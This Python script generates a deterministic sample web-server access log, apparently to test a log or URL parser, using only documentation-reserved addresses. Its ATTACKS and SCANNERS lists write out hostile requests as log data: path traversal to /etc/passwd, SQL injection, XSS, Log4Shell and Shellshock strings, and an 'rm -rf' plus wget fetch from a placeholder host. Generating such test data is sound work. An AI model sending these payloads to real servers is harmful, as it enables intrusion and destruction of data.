#!/usr/bin/env python3
# Makes examples/access.log: a web server's log of one day in combined format, with the requests that people send
# and the garbage that every public server receives. Only addresses and names reserved for documentation occur.
#
#   examples/make_access_log.py [LINES [SEED]] > access.log
#
# The same arguments give the same octets with every version of Python: all chance comes from Random.random(),
# the one method whose sequence is promised to stay. A test compares the output with the committed file.
import random
import sys

BROWSERS = [
    b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
    b"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1.15",
    b"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    b"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    b"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Mobile Safari",
]
ROBOTS = [
    b"Mozilla/5.0 (compatible; examplebot/2.1; +https://www.example.com/bot.html)",
    b"Mozilla/5.0 (compatible; Linkcheck/0.9; +https://example.org/about#linkcheck)",
    b"feedfetcher/1.4 (+http://feeds.example.net/; 12 subscribers)",
    b"curl/8.11.0",
    b"python-requests/2.32.3",
    b"Go-http-client/1.1",
    b"-",
]
SCANNERS = [
    b"Mozilla/5.0 zgrab/0.x",
    b"masscan/1.3",
    b"() { :; }; echo; /bin/id",
    b"Mozilla/5.0 (\\\"><script>alert(1)</script>)",
    b"-",
    b"",
]

PAGES = [
    b"/", b"/about", b"/contact.html", b"/blog/", b"/blog/2026/11/a-url-is-not-a-string/",
    b"/blog/2026/10/absent-is-not-empty/", b"/docs/", b"/docs/install.html", b"/docs/reference/split.html",
    b"/docs/reference/explain.html", b"/shop/", b"/shop/item/1042", b"/shop/item/77;colour=red", b"/shop/basket",
    b"/people/~ana/", b"/wiki/Uniform_Resource_Identifier", b"/wiki/ABNF_(notation)", b"/feed.xml",
    b"/caf%C3%A9/men%C3%BC", b"/docs/./reference/../install.html", b"/a/b/c/d/e/f/",
]
ASSETS = [
    b"/favicon.ico", b"/robots.txt", b"/sitemap.xml", b"/static/site.css?v=20261103", b"/static/app.min.js",
    b"/static/img/logo@2x.png", b"/static/img/photo%20of%20the%20sea.jpg", b"/static/font/text-400.woff2",
    b"/.well-known/security.txt", b"/apple-touch-icon.png", b"/static/img/plot_(1),v=2.svg",
]
QUERIES = [
    b"/search?q=", b"/search?q=abnf+grammar", b"/search?q=what%20is%20a%20url&page=2", b"/search?q=a/b?c&lang=en",
    b"/blog/?page=3&sort=-date", b"/shop/?colour=red&size=m,l&price=10..20", b"/api/v1/items?filter=name:eq:tea",
    b"/api/v1/items/42?fields=id,name,price", b"/login?next=/shop/basket?step=2",
    b"/track?utm_source=news&utm_medium=mail", b"/oauth?redirect_uri=https%3A%2F%2Fapp.example.org%2Fcb&state=x%2By",
    b"/?", b"/docs/?print",
]

SESSION_PATHS = [b"/api/v1/session/%s", b"/files/%s.pdf", b"/r/%s?src=mail", b"/img/%s/200x200.jpg"]

# What a client should have encoded; the grammar of request targets refuses it.
UNENCODED = [
    b"/search?q=[abnf]", b"/search?filter[name]=tea&filter[size]=m", b"/api?query={\\\"id\\\":42}", b"/wiki/a|b",
    b"/static/photo of the sea.jpg", b"/search?q=two words", b"/caf\xc3\xa9", b"/search?q=\xe6\x97\xa5\xe6\x9c\xac",
    b"/men\xfc.html", b"/docs/^top", b"/docs/<b>", b"/docs/`id`", b"/docs\\\\install.html",
    b"/docs/install.html#split", b"/search?q=100%", b"/search?q=50%zz", b"/caf%u00e9", b"/a%2", b"/docs/%",
    b"/%\\x22quoted\\x22",
]

ATTACKS = [
    b"/.env", b"/.git/config", b"/wp-login.php", b"/xmlrpc.php?rsd", b"/phpmyadmin/index.php?lang=en", b"//admin",
    b"//admin//config.php", b"///", b"/../../../../etc/passwd", b"/static/..%2f..%2f..%2fetc/passwd",
    b"/cgi-bin/.%2e/.%2e/.%2e/bin/sh", b"/..\\\\..\\\\windows\\\\win.ini", b"/index.php?id=1'%20OR%20'1'='1",
    b"/index.php?s=/Index/\\\\think\\\\app/invokefunction", b"/?x=${jndi:ldap://192.0.2.66/a}",
    b"/?a=<script>alert(1)</script>", b"/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.66/x", b"/%00",
    b"/a%0d%0aSet-Cookie:%20x=1", b"/?file=php://input", b"/%c0%ae%c0%ae/etc/passwd", b"/actuator/env;.css",
    b"/a\\x00b", b"/\\x01\\x02",
]

# Whole requests that are not of the form "METHOD /path HTTP/1.1".
ODD_REQUESTS = [
    b"-", b"", b"GET /", b"GET", b"GET / ", b"GET  / HTTP/1.1", b"GET /index.html HTTP", b"GET / HTTP/9.9",
    b"get / http/1.0", b"OPTIONS * HTTP/1.1", b"GET * HTTP/1.1", b"OPTIONS /api HTTP/1.1", b"OPTIONS * RTSP/1.0",
    b"PRI * HTTP/2.0", b"CONNECT www.example.com:443 HTTP/1.1", b"CONNECT 192.0.2.80:25 HTTP/1.0",
    b"CONNECT [2001:db8::80]:443 HTTP/1.1", b"CONNECT www.example.net HTTP/1.1", b"CONNECT / HTTP/1.1",
    b"GET www.example.com:443 HTTP/1.1", b"GET http://www.example.com/ HTTP/1.1",
    b"GET http://proxy-check.example.net/ip?t=1 HTTP/1.1", b"GET http://user:secret@example.org:8080/a HTTP/1.1",
    b"GET http://[2001:db8::1]:8080/ HTTP/1.1", b"GET http://evil[::1]/ HTTP/1.1", b"GET http://[::1 HTTP/1.1",
    b"GET http://www.example.com:80:80/ HTTP/1.1", b"GET http:///nohost HTTP/1.1",
    b"GET https://example.com\\\\@example.org/ HTTP/1.1", b"GET ftp://example.net/pub/ HTTP/1.0",
    b"GET index.html HTTP/1.1", b"GET ?q=1 HTTP/1.1", b"GET #top HTTP/1.1", b"HELP", b"QUIT", b"SSH-2.0-Go",
    b"MGLNDD_192.0.2.1_443", b"EHLO mail.example.net", b"\\x05\\x01\\x00", b"\\x04\\x01\\x00P\\xC0\\x00\\x02B\\x00",
    b"\\n", b"\\x00", b"{\\x22id\\x22:1}", b"*1\\r\\n$4\\r\\nPING", b"t3 12.1.2", b"\\\"GET / HTTP/1.1\\\"",
]

REFERERS = [b"-"] * 9 + [
    b"https://www.example.com/", b"https://www.example.com/search?q=abnf+grammar&hl=en", b"http://example.org",
    b"https://www.example.com/blog/#comments", b"https://example.org/a?b#c", b"https://news.example.net/item?id=4711",
    b"http://[2001:db8::7]/status", b"http://192.0.2.15:8000/links.html",
    b"https://www.example.com/%E6%97%A5%E6%9C%AC", b"https://xn--bcher-kva.example.org/",
    b"android-app://com.example.reader/",
]
ODD_REFERERS = [
    b"http://[2001:db8::7]:8080/?refresh=5#now", b"https://user@mail.example.net/inbox", b"app-settings:",
    b"about:blank", b"mailto:ana@example.org", b"/blog/", b"../index.html", b"www.example.com",
    b"docs/install.html?print#top", b"?q=1", b"#top", b"", b"https://", b"http:", b"javascript:alert(1)", b"(null)",
    b"1http://example.com/", b"https://www.example.com/search?q=what is a url",
    b"https://www.example.com/caf\xc3\xa9", b"https://example.com/a|b", b"https://b\xc3\xbccher.example.org/",
    b"http://www.example.com:port/", b"https://www.example.com/100%", b"http://[2001:db8::7",
    b"https://www.example.com/\\\"onload=alert(1)",
]

USERS = [
    b"ana", b"ben", b"carla.d", b"dev-ops", b"first last", b"\\\"\\\"", b"o'neil", b"x [y",
]
IDENTS = [
    b"ana", b"unix-uid-1000", b"?",
]
FURTHER = [
    b' "0.004"', b" rt=0.013 uct=0.001", b' "198.51.100.9, 192.0.2.4" www.example.com', b" 1274 TLSv1.3", b' "-"',
    b" ",
]


def pick(rng, values):
    return values[int(rng.random() * len(values))]


def number(rng, below):
    return int(rng.random() * below)


def visitor(rng):
    chance = rng.random()
    if chance < 0.55:
        return b"192.0.2.%d" % (1 + number(rng, 254))
    if chance < 0.85:
        return b"198.51.100.%d" % (1 + number(rng, 254))
    if chance < 0.97:
        return b"2001:db8:%x::%x" % (number(rng, 0x10000), 1 + number(rng, 0x1000))
    return b"crawl-%d.example.net" % number(rng, 40)


def opaque(rng, size):
    letters = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return bytes(letters[number(rng, len(letters))] for _ in range(size))


def long_query(rng):
    fields = b"&".join(b"f%d=%s" % (i, opaque(rng, 8 + number(rng, 40))) for i in range(10 + number(rng, 60)))
    return b"/collect?" + fields


def session_path(rng):
    return pick(rng, SESSION_PATHS) % opaque(rng, 22)


def target(rng):
    chance = rng.random()
    if chance < 0.36:
        return pick(rng, PAGES)
    if chance < 0.60:
        return pick(rng, ASSETS)
    if chance < 0.78:
        return pick(rng, QUERIES)
    if chance < 0.90:
        return session_path(rng)
    if chance < 0.905:
        return long_query(rng)
    if chance < 0.95:
        return pick(rng, UNENCODED)
    return pick(rng, ATTACKS)


# A TLS hello sent to a port that speaks plain HTTP: octets outside 0x20-0x7e, quotes and backslashes are escaped.
def tls_hello(rng):
    shown = b"\\x16\\x03\\x01" + pick(rng, [b"\\x00\\xEE", b"\\x02\\x00"]) + b"\\x01\\x00\\x01\\xFC\\x03\\x03"
    for _ in range(8 + number(rng, 50)):
        octet = number(rng, 256)
        shown += bytes([octet]) if 0x20 < octet < 0x7f and octet not in b'"\\' else b"\\x%02X" % octet
    return shown


def request(rng):
    chance = rng.random()
    if chance < 0.012:
        return tls_hello(rng)
    if chance < 0.055:
        return pick(rng, ODD_REQUESTS)
    method = pick(rng, [b"GET"] * 17 + [b"HEAD", b"POST", b"POST"])
    version = pick(rng, [b"HTTP/1.1"] * 8 + [b"HTTP/2.0"] * 10 + [b"HTTP/1.0"])
    return method + b" " + target(rng) + b" " + version


def referer(rng):
    return pick(rng, ODD_REFERERS if rng.random() < 0.05 else REFERERS)


def status_and_size(rng, what):
    if not what.startswith((b"GET /", b"HEAD /", b"POST /")):
        return pick(rng, [b"400 166", b"400 0", b"405 157", b"408 -", b"400 -"])
    status = pick(rng, [200] * 14 + [304, 304, 301, 302, 404, 404, 403, 500, 499])
    if status == 304 or rng.random() < 0.01:
        return b"%d -" % status
    return b"%d %d" % (status, 300 + number(rng, 60000 if status == 200 else 600))


def agent(rng):
    chance = rng.random()
    return pick(rng, BROWSERS if chance < 0.78 else ROBOTS if chance < 0.95 else SCANNERS)


# What is not a log line: a truncated write, two writes run together, another program's message, an empty line.
def damaged(rng, line):
    chance = rng.random()
    if chance < 0.4:
        return line[:1 + number(rng, len(line) - 1)]
    if chance < 0.6:
        return line[30 + number(rng, 30):]
    if chance < 0.8:
        return b"[error] 1274#0: *%d connect() failed (111: Connection refused)" % number(rng, 90000)
    return b""


def time_of(second):
    return b"03/Nov/2026:%02d:%02d:%02d +0000" % (second // 3600, second // 60 % 60, second % 60)


def log_line(rng, second):
    ident = pick(rng, IDENTS) if rng.random() < 0.004 else b"-"
    user = pick(rng, USERS) if rng.random() < 0.02 else b"-"
    what = request(rng)
    line = b'%s %s %s [%s] "%s" %s "%s" "%s"' % (
        visitor(rng), ident, user, time_of(second), what, status_and_size(rng, what), referer(rng), agent(rng))
    if rng.random() < 0.015:
        line += pick(rng, FURTHER)
    return damaged(rng, line) if rng.random() < 0.003 else line


def access_log(lines, seed):
    rng = random.Random(seed)
    result = []
    for i in range(lines):
        second = (i * 86400 + number(rng, 86400)) // lines
        result.append(log_line(rng, second) + b"\n")
    return b"".join(result)


def main():
    lines = int(sys.argv[1]) if len(sys.argv) > 1 else 3000
    seed = int(sys.argv[2]) if len(sys.argv) > 2 else 14289
    sys.stdout.buffer.write(access_log(lines, seed))


if __name__ == "__main__":
    main()
